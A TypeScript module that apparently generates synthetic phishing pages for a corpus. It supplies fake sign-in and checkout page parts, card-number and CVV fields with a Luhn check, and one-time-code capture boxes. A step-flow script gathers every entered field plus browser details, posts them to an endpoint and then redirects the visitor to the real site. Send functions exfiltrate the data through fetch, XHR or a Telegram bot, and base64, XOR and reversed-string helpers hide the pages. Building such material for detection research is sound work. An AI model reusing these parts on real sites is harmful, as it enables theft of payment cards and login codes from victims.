import type { Route } from '../../corpus/corpus.js';

/**
 * Shared furniture for the `yl-` pages: document shell, wordmark logos, card and OTP form blocks,
 * the small scripts real sites and kits both carry (input masks, analytics stubs, step flows).
 */

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export type DocOpts = {
  title: string;
  lang?: string;
  dir?: 'rtl' | 'ltr';
  head?: string;
  css?: string;
  body: string;
  bodyAttrs?: string;
  favicon?: string;
};

/** A full HTML document. */
export function doc(o: DocOpts): string {
  const lang = o.lang ?? 'en';
  const dir = o.dir ?? (lang === 'ar' ? 'rtl' : 'ltr');
  const fav = o.favicon ? `<link rel="icon" href="${o.favicon}">` : '';
  return `<!DOCTYPE html>
<html lang="${lang}" dir="${dir}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<title>${esc(o.title)}</title>
${fav}
${o.head ?? ''}
<style>
${o.css ?? ''}
</style>
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/** A plain SVG wordmark, the way many sites and most kits inline their logo. */
export function wordmark(text: string, color: string, opts: { size?: number; weight?: number; font?: string; accent?: string; width?: number } = {}): string {
  const size = opts.size ?? 26;
  const width = opts.width ?? Math.round(text.length * size * 0.62 + (opts.accent ? size : 8));
  const dot = opts.accent ? `<circle cx="${size / 2}" cy="${size * 0.62}" r="${size * 0.42}" fill="${opts.accent}"/>` : '';
  const x = opts.accent ? size + 4 : 2;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${Math.round(size * 1.3)}" viewBox="0 0 ${width} ${Math.round(size * 1.3)}" role="img" aria-label="${esc(text)}">${dot}<text x="${x}" y="${Math.round(size * 1.02)}" font-family="${opts.font ?? 'Arial, Helvetica, sans-serif'}" font-size="${size}" font-weight="${opts.weight ?? 700}" fill="${color}">${esc(text)}</text></svg>`;
}

/** Google-Analytics-style loader seen on most real sites. */
export const gtag = (id: string): string => `<script async src="https://www.googletagmanager.com/gtag/js?id=${id}"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','${id}',{anonymize_ip:true});</script>`;

/** Card number spacing, expiry slash and a Luhn check: real checkouts and card-harvest kits both ship this. */
export const cardMaskJs = `
(function(){
  function luhn(n){var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n.charAt(i);if(a){d*=2;if(d>9)d-=9;}s+=d;a=!a;}return n.length>=13&&s%10===0;}
  var cn=document.querySelector('[data-card=number]'), ex=document.querySelector('[data-card=exp]'), cv=document.querySelector('[data-card=cvv]');
  if(cn)cn.addEventListener('input',function(){var v=cn.value.replace(/\\D/g,'').slice(0,19);cn.value=v.replace(/(.{4})/g,'$1 ').trim();cn.classList.toggle('bad',v.length>=13&&!luhn(v));});
  if(ex)ex.addEventListener('input',function(){var v=ex.value.replace(/\\D/g,'').slice(0,4);ex.value=v.length>2?v.slice(0,2)+'/'+v.slice(2):v;});
  if(cv)cv.addEventListener('input',function(){cv.value=cv.value.replace(/\\D/g,'').slice(0,4);});
  window.__luhn=luhn;
})();`;

/** Card fields block; labels passed in so the block can be Arabic, Turkish, French or English. */
export function cardFields(l: { name: string; number: string; exp: string; cvv: string }, cls = 'f'): string {
  return `<div class="${cls}"><label for="cc-name">${l.name}</label><input id="cc-name" name="cardholder" autocomplete="cc-name" required></div>
<div class="${cls}"><label for="cc-num">${l.number}</label><input id="cc-num" name="cardnumber" data-card="number" inputmode="numeric" autocomplete="cc-number" placeholder="0000 0000 0000 0000" required></div>
<div class="row"><div class="${cls}"><label for="cc-exp">${l.exp}</label><input id="cc-exp" name="exp" data-card="exp" placeholder="MM/YY" autocomplete="cc-exp" required></div>
<div class="${cls}"><label for="cc-cvv">${l.cvv}</label><input id="cc-cvv" name="cvv" data-card="cvv" inputmode="numeric" autocomplete="cc-csc" maxlength="4" required></div></div>`;
}

/** Six-box OTP input with auto-advance. */
export function otpBoxes(n = 6): string {
  let s = '<div class="otp" dir="ltr">';
  for (let i = 0; i < n; i++) s += `<input class="otp-d" maxlength="1" inputmode="numeric" autocomplete="${i === 0 ? 'one-time-code' : 'off'}" aria-label="digit ${i + 1}">`;
  return s + '</div>';
}

export const otpJs = `
(function(){var ds=[].slice.call(document.querySelectorAll('.otp-d'));ds.forEach(function(d,i){d.addEventListener('input',function(){d.value=d.value.replace(/\\D/g,'');if(d.value&&ds[i+1])ds[i+1].focus();});d.addEventListener('keydown',function(e){if(e.key==='Backspace'&&!d.value&&ds[i-1])ds[i-1].focus();});});
window.__otp=function(){return ds.map(function(d){return d.value;}).join('');};})();`;

/** Countdown shown on OTP screens: "resend in 0:59". */
export const countdownJs = (sel: string, secs = 59): string => `
(function(){var el=document.querySelector('${sel}');if(!el)return;var t=${secs};var iv=setInterval(function(){t--;if(t<=0){clearInterval(iv);el.textContent='0:00';return;}el.textContent='0:'+(t<10?'0':'')+t;},1000);})();`;

/** A generic footer line set. */
export function footerLinks(items: string[], sep = ' · '): string {
  return items.map((t) => `<a href="#">${t}</a>`).join(sep);
}

/** Cookie consent bar as found on most European/Gulf corporate sites. */
export const cookieBar = (text: string, ok: string): string => `<div id="ck" style="position:fixed;bottom:0;left:0;right:0;background:#222;color:#eee;padding:12px 18px;font:13px/1.5 Arial,sans-serif;display:flex;gap:12px;align-items:center;justify-content:space-between;z-index:50"><span>${text}</span><button onclick="this.parentNode.remove();try{localStorage.setItem('ck','1')}catch(e){}" style="background:#fff;color:#222;border:0;padding:7px 16px;border-radius:3px;cursor:pointer">${ok}</button></div>
<script>try{if(localStorage.getItem('ck'))document.getElementById('ck').remove()}catch(e){}</script>`;

export const json = (body: unknown, status = 200): Route => ({ status, headers: { 'content-type': 'application/json; charset=utf-8' }, body: JSON.stringify(body) });
export const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
export const css = (body: string): Route => ({ status: 200, headers: { 'content-type': 'text/css; charset=utf-8' }, body });
export const svgRoute = (svg: string): Route => ({ status: 200, headers: { 'content-type': 'image/svg+xml' }, body: svg });

/** base64 of a UTF-8 string, for pages that ship themselves encoded. */
export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
/** Every char as %XX (UTF-8), for unescape()/decodeURIComponent kits. */
export const pct = (s: string): string => Array.from(Buffer.from(s, 'utf8')).map((b) => '%' + b.toString(16).padStart(2, '0')).join('');
/** Single-byte XOR then hex, for kits that decode with a key. */
export const xorHex = (s: string, key: number): string => Array.from(Buffer.from(s, 'utf8')).map((b) => (b ^ key).toString(16).padStart(2, '0')).join('');
/** Reverse a string (kits sometimes store reversed base64). */
export const rev = (s: string): string => s.split('').reverse().join('');

/** Base CSS for a centred sign-in card; colours and fonts passed in. */
export function cardCss(o: { bg: string; primary: string; text?: string; font?: string; radius?: number; width?: number }): string {
  const r = o.radius ?? 8;
  return `*{box-sizing:border-box}html,body{margin:0;padding:0}
body{background:${o.bg};font-family:${o.font ?? "'Segoe UI',Tahoma,Arial,sans-serif"};color:${o.text ?? '#1f2430'};min-height:100vh}
.wrap{max-width:${o.width ?? 420}px;margin:0 auto;padding:28px 16px}
.card{background:#fff;border-radius:${r}px;box-shadow:0 6px 24px rgba(0,0,0,.08);padding:28px 26px}
.logo{display:flex;justify-content:center;margin:8px 0 22px}
h1{font-size:21px;margin:0 0 6px;font-weight:600}
p.sub{color:#5b6170;margin:0 0 20px;font-size:14px;line-height:1.55}
.f{margin-bottom:14px;flex:1}.f label{display:block;font-size:13px;color:#3b4150;margin-bottom:6px}
.f input,.f select{width:100%;height:44px;border:1px solid #cfd4dc;border-radius:${Math.max(r - 2, 2)}px;padding:0 12px;font-size:15px;background:#fff}
.f input:focus,.f select:focus{outline:none;border-color:${o.primary};box-shadow:0 0 0 3px ${o.primary}22}
.f input.bad{border-color:#d93025}
.row{display:flex;gap:12px}
.btn{display:block;width:100%;height:46px;border:0;border-radius:${Math.max(r - 2, 2)}px;background:${o.primary};color:#fff;font-size:16px;font-weight:600;cursor:pointer}
.btn[disabled]{opacity:.6}
.muted{color:#7a808c;font-size:12.5px;line-height:1.5}
.err{display:none;background:#fdecea;color:#a32117;border-radius:4px;padding:10px 12px;font-size:13px;margin-bottom:12px}
.otp{display:flex;gap:8px;justify-content:center;margin:10px 0 18px}.otp-d{width:44px;height:50px;text-align:center;font-size:22px;border:1px solid #cfd4dc;border-radius:6px}
.step{display:none}.step.on{display:block}
.spin{width:34px;height:34px;border:3px solid #e3e6eb;border-top-color:${o.primary};border-radius:50%;animation:sp 0.8s linear infinite;margin:24px auto}
@keyframes sp{to{transform:rotate(360deg)}}
footer{text-align:center;margin:22px 0;font-size:12px;color:#8a909c}footer a{color:#8a909c;text-decoration:none;margin:0 6px}`;
}

/**
 * The step flow most kits share: each `.step` form posts its fields somewhere, then the next step shows;
 * after the last one the visitor lands on the real site. `send` is the JS expression of a function(data, done).
 */
export function stepFlow(o: { send: string; finalUrl: string; delayMs?: number; extra?: string }): string {
  return `<script>
(function(){
  var steps=[].slice.call(document.querySelectorAll('.step'));
  var store={};
  try{store=JSON.parse(sessionStorage.getItem('_s')||'{}')}catch(e){}
  var send=${o.send};
  function show(i){steps.forEach(function(s,j){s.classList.toggle('on',i===j)});window.scrollTo(0,0);}
  steps.forEach(function(st,i){
    var f=st.querySelector('form'); if(!f)return;
    f.addEventListener('submit',function(ev){
      ev.preventDefault();
      var fd=new FormData(f); fd.forEach(function(v,k){store[k]=v});
      if(window.__otp&&st.querySelector('.otp'))store['otp_'+i]=window.__otp();
      store.step=i+1; store.ua=navigator.userAgent; store.lang=navigator.language;
      try{sessionStorage.setItem('_s',JSON.stringify(store))}catch(e){}
      var b=f.querySelector('button'); if(b)b.disabled=true;
      send(store,function(){
        if(b)b.disabled=false;
        if(i+1<steps.length){show(i+1)}else{setTimeout(function(){location.replace(${JSON.stringify(o.finalUrl)})},${o.delayMs ?? 1500})}
      });
    });
  });
  ${o.extra ?? ''}
})();
</script>`;
}

/** `send` implementations. */
export const sendFetchForm = (endpoint: string): string => `function(d,done){var b=new URLSearchParams();for(var k in d)b.append(k,d[k]);fetch(${JSON.stringify(endpoint)},{method:'POST',body:b,headers:{'Content-Type':'application/x-www-form-urlencoded'}}).then(function(){done()}).catch(function(){done()})}`;
export const sendJson = (endpoint: string): string => `function(d,done){fetch(${JSON.stringify(endpoint)},{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(r){return r.json().catch(function(){return {}})}).then(function(){done()}).catch(function(){done()})}`;
export const sendXhr = (endpoint: string): string => `function(d,done){var x=new XMLHttpRequest();x.open('POST',${JSON.stringify(endpoint)},true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onloadend=function(){done()};var p=[];for(var k in d)p.push(encodeURIComponent(k)+'='+encodeURIComponent(d[k]));x.send(p.join('&'))}`;
export const sendTelegram = (token: string, chat: string, tag: string): string => `function(d,done){var t=${JSON.stringify(tag)}+'\\n';for(var k in d)t+=k+': '+d[k]+'\\n';fetch('https://api.telegram.org/bot'+${JSON.stringify(token)}+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:${JSON.stringify(chat)},text:t})}).then(function(){done()}).catch(function(){done()})}`;
